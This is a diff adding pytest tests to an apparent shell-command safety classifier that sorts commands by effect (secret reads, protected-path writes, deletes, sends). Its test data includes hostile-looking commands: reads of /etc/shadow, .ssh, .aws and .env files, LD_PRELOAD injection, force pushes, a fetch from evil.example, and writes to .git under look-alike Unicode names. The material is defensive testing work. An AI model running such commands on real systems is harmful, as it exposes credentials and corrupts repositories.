@@ -1,8 +1,13 @@
 """What a command reaches beside the words of its line: names, files, remotes, hosts."""
 
+from dataclasses import asdict
+from typing import Final
+
 import pytest
 
 from critic.command.command_table import CommandTable, ProgramEntry
+from critic.command.shell_facts import ShellFacts
+from critic.command.steps import read_steps
 from harness.policy.shell_settings import shipped_table
 from tests.support.command_tables import SMALL_TABLE
 from tests.support.shell_worlds import World
@@ -366,3 +371,126 @@ def test_what_is_exported_is_read_by_no_program() -> None:
 )
 def test_a_field_of_jq_is_no_word_of_its_language(filter_: str, is_plain: bool) -> None:
     assert (effects(f"jq '{filter_}' a.json") == {"read"}) is is_plain
+
+
+OUT: Final = "/var/tmp/out"  # noqa: S108 - only compared
+LED: Final = World(
+    links={
+        "/home/u/in": "/w/src",
+        OUT: "/home/u/x",
+        "/home/u/tmp": "/var/tmp/x",  # noqa: S108 - the same
+        "/w/top": "/w",
+    }
+)
+
+
+@pytest.mark.parametrize(
+    ("command", "effect"),
+    [
+        *((f"{command} ~/in", "read_outside") for command in ("cat", "ls")),
+        *((f"{command} {OUT}", "read_outside") for command in ("cat", "ls")),
+        ("cat ~/tmp", "read_outside"),
+        *((f"echo x > {name}", "write_outside") for name in ("~/in", OUT, "~/tmp")),
+        *((f"cp -r src {name}", "write_outside") for name in ("top", "top/", OUT)),
+        *((f"rm {name}", "delete") for name in ("~/in", OUT, "~/tmp")),
+    ],
+)
+def test_a_path_is_as_bad_as_the_worse_of_where_it_is_and_where_it_leads(
+    command: str, effect: str
+) -> None:
+    assert effect in {step.effect for step in LED.read(command, SMALL_TABLE).steps}
+
+
+def test_what_is_shown_or_taken_away_under_a_guarded_name_is_not_fine_by_its_folder() -> None:
+    for name in ("/etc/shadow", "/usr/.ssh", "/var/log/.aws", "/etc/.aws/x"):
+        assert effects(f"ls {name}") == {"read_outside"}
+    for name in (".env/prod", "src/.env.d/x"):
+        assert effects(f"cat {name}") == {"read_secret"}
+    for name in (".venv/bin/python", "node_modules/x/i.js", ".VENV/x", "a/site-packages/x"):
+        assert "write_outside" in effects(f"echo x > {name}")
+    assert effects("rm /tmp/x") == {"delete_made"}
+    for pattern in ("x*", "*", "d/*", "d/x?"):
+        assert effects(f"rm /tmp/{pattern}") == {"delete"}
+
+
+@pytest.mark.parametrize(
+    "name",
+    ["\uff0egit", ".\uff47it", ".GI\uff34", ".g\u200cit", "\u200b.git", ".gi\xadt", ".\u24d6it"],
+)
+def test_a_protected_name_counts_in_whichever_letters_a_disk_takes_for_it(name: str) -> None:
+    for path in (f"{name}/x", f"src/{name}", f"./{name}/../{name}/hooks/x"):
+        assert "write_protected" in effects(f"echo x > '{path}'")
+        assert "write_protected" in effects(f"rm -r '{path}'")
+
+
+@pytest.mark.parametrize("flags", ["-y --no-install", "--no-install -y", "--yes --no"])
+def test_npx_that_may_fetch_installs_whatever_is_said_beside_it(flags: str) -> None:
+    assert "install" in effects(f"npx {flags} eslint .", SHIPPED)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "env CI=1 LD_PRELOAD=x ls",
+        "cargo test -- --x=.env",
+        "cd src || cd other; git status",
+        "tar xf a.tar -C src; cd src && git log",
+        "cp -r x src; cd src && git log",
+        *(f"git push origin {ref}" for ref in (":main", "+main", "main :x", "main +x")),
+        "git fetch origin main https://evil.example/x",
+        "git config --get user.name http.extraheader",
+        "git ls-files -o | xargs cat",
+        "git ls-files --others | xargs cat",
+        "cp -r l* x; cat x",
+        "cp -a src x; cat x/y",
+        "(find . -name a.py; echo x) | xargs cat",
+        "find . | cat <<< x | xargs cat",
+        "sed -e p -e 'w .git/x' a.py",
+        "cat <<'A' <<B\nx\nA\n$(id)\nB",
+    ],
+)
+def test_a_line_is_not_understood_by_the_first_of_several_alone(command: str) -> None:
+    """The second assignment, folder, ref, setting or source counts as the first one does."""
+    assert effects(command, SHIPPED) == {"unknown"}
+
+
+@pytest.mark.parametrize(
+    ("command", "effect"),
+    [
+        ("npm test -- --junitxml=.git/x", "write_protected"),
+        ("mv .g* x", "write_protected"),
+        ("mv a.py .g* x", "write_protected"),
+        ("ln ~/x b", "write_outside"),
+        ("git checkout -- main", "discard"),
+        ("git clean -q -f", "discard"),
+        ("git clean -fq", "discard"),
+        ("(find . -name a.py; find . -name '*.pem') | xargs cat", "read_secret"),
+        ("(find . -name '*.pem'; find . -name a.py) | xargs cat", "read_secret"),
+        (f"curl 'https://docs.example/?{'q' * 101}'", "send"),
+        ("find . -name a.py -o -name '*.pem' -exec cat {} +", "read_secret"),
+        ("find . -name '*.pyc' -o -delete", "delete"),
+        ("find src ~/docs -name x -exec cat {} +", "read_outside"),
+        ("sed -i s/a/b/ a.py .git/config", "write_protected"),
+        ("cat <<'A' <<'B' > .git/x\nx\nA\nrm b.py\nB", "write_protected"),
+    ],
+)
+def test_a_second_effect_is_seen_beside_the_first(command: str, effect: str) -> None:
+    world = World(branches=("main",))
+    assert effect in {step.effect for step in world.read(command, SHIPPED).steps}
+
+
+def test_a_list_of_packages_is_of_the_project_where_it_leads_too() -> None:
+    line = "pip install -r reqs.txt"
+    assert WORLD.read(line, SHIPPED).is_understood
+    assert not World(links={"/w/reqs.txt": "/home/u/reqs"}).read(line, SHIPPED).is_understood
+
+
+@pytest.mark.parametrize("lacks", ["links", "git", "refs", "remotes", "path_safe"])
+def test_a_line_is_not_understood_while_a_fact_of_any_one_kind_is_missing(lacks: str) -> None:
+    line = "cat a.py; git push origin main; git checkout main"
+    facts = World(branches=("main",)).facts_for(line, {}, SHIPPED)
+    assert read_steps(line, ShellFacts.model_validate(facts), SHIPPED).is_understood
+    del facts[lacks]
+    read = read_steps(line, ShellFacts.model_validate(facts), SHIPPED)
+    assert (read.is_understood, len(read.steps)) == (False, 1)
+    assert {name for name, needed in asdict(read.needs).items() if needed} == {lacks}
